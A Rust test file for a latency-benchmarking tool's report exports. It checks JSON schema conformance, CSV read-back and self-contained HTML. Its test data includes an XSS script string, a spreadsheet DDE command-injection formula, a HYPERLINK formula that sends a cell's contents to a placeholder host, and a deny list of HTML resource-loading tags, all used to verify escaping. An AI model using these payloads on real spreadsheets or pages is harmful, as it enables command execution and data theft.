//! The report exports on a fixed report: snapshots of all three files, the JSON against the committed schema,
//! the CSV read back by a standard CSV reader, and the HTML free of external references.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a failing test should panic loudly")]

use crate::common;

use latency_guard::model::{CheckKind, CheckOutcome, IterationRecord, RunValidity, TokenSource, ValidityCheck};
use latency_guard::runs::report::{
    export, file_name, to_csv, to_html, to_json, ExportFormat, ReportAgent, ReportConnector, ReportFiles, ReportHeader,
    ReportSnapshot, ReportStats, CSV_COLUMNS, CSV_TIMING_COLUMNS,
};
use latency_guard::stats::Percentiles;

/// Prompts a user could paste: quotes, commas, line breaks of both kinds, markup and non-ASCII text.
const HOSTILE_PROMPTS: [&str; 4] = [
    "Say \"hi\", then stop",
    "line one\nline two\r\nline three",
    "<script>alert('x')</script> & more",
    "日本語で答えて — émoji 🚀, ok?",
];

fn record(seq: u64, prompt_index: u32, iteration: u32) -> IterationRecord {
    IterationRecord {
        prompt: HOSTILE_PROMPTS[prompt_index as usize].to_string(),
        iteration,
        ttft_ms: Some(100.25 + seq as f64),
        total_ms: 812.5 + seq as f64 * 3.0,
        tokens_in: Some(42),
        tokens_out: Some(128),
        cost_usd: Some(0.000298),
        error: None,
        sent_at_ms: Some(seq as f64 * 250.5),
        tpot_ms: Some(5.125 + seq as f64),
        itl_ms: Some(5.0 + seq as f64),
        cached_tokens: Some(seq * 16),
        seq,
        prompt_index,
        warmup: false,
        token_source: TokenSource::Reported,
        ..IterationRecord::blank()
    }
}

/// A report with one warm-up, successes, a failure with a comma and quotes in its detail, an estimated token
/// count and a non-streamed-like missing TTFT.
fn fixed_report() -> ReportSnapshot {
    let mut results = vec![IterationRecord { warmup: true, ..record(0, 0, 0) }];
    for (i, seq) in (1..=8).enumerate() {
        results.push(record(seq, (i % 4) as u32, (i / 4) as u32));
    }
    results[3].error = Some("http_429: Rate limit reached, \"slow down\"".into());
    results[3].ttft_ms = None;
    results[3].tokens_out = None;
    results[3].cost_usd = None;
    results[5].token_source = TokenSource::Estimated;
    results[6].ttft_ms = None;
    ReportSnapshot {
        report: ReportHeader {
            id: "0b6f3a54-8a2e-4c55-9f0e-2f1a7c3d9e10".into(),
            title: "Support bot on gpt-4o-mini, \"before\" deploy".into(),
            created_at: "2026-11-22T08:30:00.000Z".into(),
        },
        validity: Some(RunValidity::of(vec![
            ValidityCheck {
                check: CheckKind::Errors,
                outcome: CheckOutcome::Passed,
                says: "12.5 % of 8 measured request(s) failed (bound 15 %)".into(),
                change: None,
            },
            ValidityCheck {
                check: CheckKind::Samples,
                outcome: CheckOutcome::Failed,
                says: "7 successful request(s); p95, the highest percentile this run is read at, needs at least 20 \
                       (one request beyond it)"
                    .into(),
                change: Some(
                    "Send at least 20 requests <more iterations>, or judge the run at a lower percentile.".into(),
                ),
            },
        ])),
        agent: ReportAgent {
            name: "support-bot".into(),
            system_prompt: Some("Be brief & <polite>.".into()),
            tools: vec![serde_json::json!({"type": "function", "function": {"name": "lookup"}})],
            token_budget: 256,
        },
        connector: ReportConnector { base_url: "https://api.example.com/v1".into(), model: "gpt-4o-mini".into() },
        stats: ReportStats {
            ttft: Some(Percentiles { p50: 104.25, p95: 107.5, p99: 108.0 }),
            total: Some(Percentiles { p50: 824.5, p95: 834.0, p99: 836.0 }),
            output_tok_per_sec: Some(310.4),
            requests_per_sec: Some(2.4),
            span_s: Some(1.67),
            tok_per_sec: Some(155.2),
            tpot: Some(Percentiles { p50: 11.5, p95: 12.75, p99: 13.0 }),
            itl: Some(Percentiles { p50: 11.0, p95: 14.0, p99: 19.5 }),
            first_output: Some(Percentiles { p50: 104.25, p95: 107.5, p99: 108.0 }),
            goodput: None,
        },
        results,
        honesty: vec![
            "Percentiles use linear interpolation between closest ranks (numpy's default).".into(),
            "Token counts of 1 iteration were estimated (characters / 4).".into(),
        ],
        server: None,
        workload: None,
    }
}

/// A report's files as the browser makes them: the snapshot with the sections the server rendered for a file.
fn files(snapshot: ReportSnapshot) -> ReportFiles {
    ReportFiles { sections: latency_guard::runs::fragments::report_file_sections(&snapshot), snapshot }
}

#[test]
fn exports_of_a_fixed_report_match_their_snapshots() {
    let report = fixed_report();
    insta::assert_snapshot!("report.json", to_json(&report));
    insta::assert_snapshot!("report.csv", to_csv(&report));
    // The page after its styles, which are the app's own stylesheet (a change of the app's look is not an
    // export's change).
    let html = to_html(&files(report.clone()));
    let (head, body) = html.split_once("</style></head>").unwrap();
    assert!(head.contains("<style>") && head.contains(".stat-card {"), "the app's styles are inline");
    insta::assert_snapshot!("report.html", body);
    assert_eq!(
        file_name(&report, ExportFormat::Csv),
        "latency-report-support-bot-on-gpt-4o-mini-before-deploy-2026-11-22.csv"
    );
}

#[test]
fn the_json_export_has_exactly_the_documented_shape_and_matches_the_schema() {
    let report = fixed_report();
    let text = export(&files(report.clone()), ExportFormat::Json);
    // Top-level keys in the documented order (pretty-printed: the lines indented by exactly two spaces).
    let keys: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("  \"").filter(|_| !l.starts_with("   ")))
        .filter_map(|l| l.split('"').next())
        .collect();
    assert_eq!(keys, ["report", "validity", "agent", "connector", "stats", "results", "honesty"]);
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    common::assert_report_schema(&value);
    let back: ReportSnapshot = serde_json::from_value(value).unwrap();
    assert_eq!(back, report, "the JSON export reads back to the same report");
}

#[test]
fn the_schema_rejects_what_is_not_a_report() {
    let mut value = serde_json::to_value(fixed_report()).unwrap();
    value["version"] = serde_json::json!(2);
    assert!(common::report_schema_errors(&value).iter().any(|e| e.contains("version")));
    let mut value = serde_json::to_value(fixed_report()).unwrap();
    value["connector"]["apiKey"] = serde_json::json!("sk-canary");
    assert!(!common::report_schema_errors(&value).is_empty(), "a key in the connector is not a report");
    let mut value = serde_json::to_value(fixed_report()).unwrap();
    value["results"][0]["totalMs"] = serde_json::json!("fast");
    assert!(!common::report_schema_errors(&value).is_empty());
}

#[test]
fn the_csv_reads_back_through_a_standard_reader_to_the_same_values() {
    let report = fixed_report();
    let text = to_csv(&report);
    assert!(!text.ends_with('\n'), "lines are joined with \\n, no trailing line break");
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let header: Vec<&str> = CSV_COLUMNS.iter().chain(&CSV_TIMING_COLUMNS).copied().collect();
    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), header, "the first eleven keep their places");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let measured: Vec<&IterationRecord> = report.results.iter().filter(|r| !r.warmup).collect();
    assert_eq!(rows.len(), measured.len(), "one row per measured iteration; the warm-up is left out");
    let optional = |cell: &str| (!cell.is_empty()).then(|| cell.parse::<f64>().unwrap());
    for (row, r) in rows.iter().zip(measured) {
        assert_eq!(&row[0], report.report.id);
        assert_eq!(&row[1], report.agent.name);
        assert_eq!(&row[2], report.connector.model);
        assert_eq!(&row[3], r.prompt, "prompt text survives quotes, commas, line breaks and unicode");
        assert_eq!(row[4].parse::<u32>().unwrap(), r.iteration);
        assert_eq!(optional(&row[5]), r.ttft_ms);
        assert_eq!(row[6].parse::<f64>().unwrap(), r.total_ms);
        assert_eq!(optional(&row[7]), r.tokens_in.map(|t| t as f64));
        assert_eq!(optional(&row[8]), r.tokens_out.map(|t| t as f64));
        assert_eq!(optional(&row[9]), r.cost_usd);
        assert_eq!(&row[10], r.error.as_deref().unwrap_or(""), "an empty error is an empty cell");
        assert_eq!(optional(&row[11]), r.sent_at_ms);
        assert_eq!(optional(&row[12]), r.tpot_ms);
        assert_eq!(optional(&row[13]), r.itl_ms);
        assert_eq!(optional(&row[14]), r.cached_tokens.map(|t| t as f64));
    }
    // The prompt is always quoted, even when it needs no quoting.
    let plain = ReportSnapshot { results: vec![record(1, 0, 0)], ..fixed_report() };
    let mut plain = plain;
    plain.results[0].prompt = "plain".into();
    assert!(to_csv(&plain).lines().nth(1).unwrap().contains(",\"plain\","));
}

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_read_back_as_text() {
    let mut report = ReportSnapshot { results: vec![record(1, 0, 0), record(2, 1, 0)], ..fixed_report() };
    report.agent.name = "@agent".into();
    report.connector.model = "=cmd|' /C calc'!A0".into();
    report.results[0].prompt = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"open\")".into();
    report.results[1].prompt = "-2+3".into();
    report.results[1].error = Some("+http_500: \tupstream".into());
    let text = to_csv(&report);
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for row in &rows {
        assert_eq!(&row[1], "'@agent");
        assert_eq!(&row[2], "'=cmd|' /C calc'!A0");
    }
    assert_eq!(&rows[0][3], "'=HYPERLINK(\"https://example.invalid/?\"&A1,\"open\")");
    assert_eq!(&rows[1][3], "'-2+3");
    assert_eq!(&rows[1][10], "'+http_500: \tupstream");
    assert_eq!(rows[1][6].parse::<f64>().unwrap(), report.results[1].total_ms, "numbers are left as they are");
}

#[test]
fn the_html_export_stands_alone() {
    let html = to_html(&files(fixed_report()));
    assert!(html.starts_with("<!DOCTYPE html>"));
    for forbidden in ["<script", "<link", "<img", "<iframe", "@import", "url(", " src=", " href="] {
        assert!(!html.contains(forbidden), "the page must not load anything: found {forbidden:?}");
    }
    assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; more"), "prompts are escaped");
    assert!(html.contains("This run did not record its server"), "the missing server metrics are said");
    assert!(html.contains("<svg"), "the scatter is inline SVG");
    assert!(html.contains("Percentiles use linear interpolation"), "honesty notes are in the page");
    let table = &html[html.find("<section id=\"iterations\">").unwrap()..];
    assert_eq!(table.matches("<tr").count(), 1 + 9, "header row and every iteration, the warm-up flagged");
    assert!(html.contains("warm-up"));
}
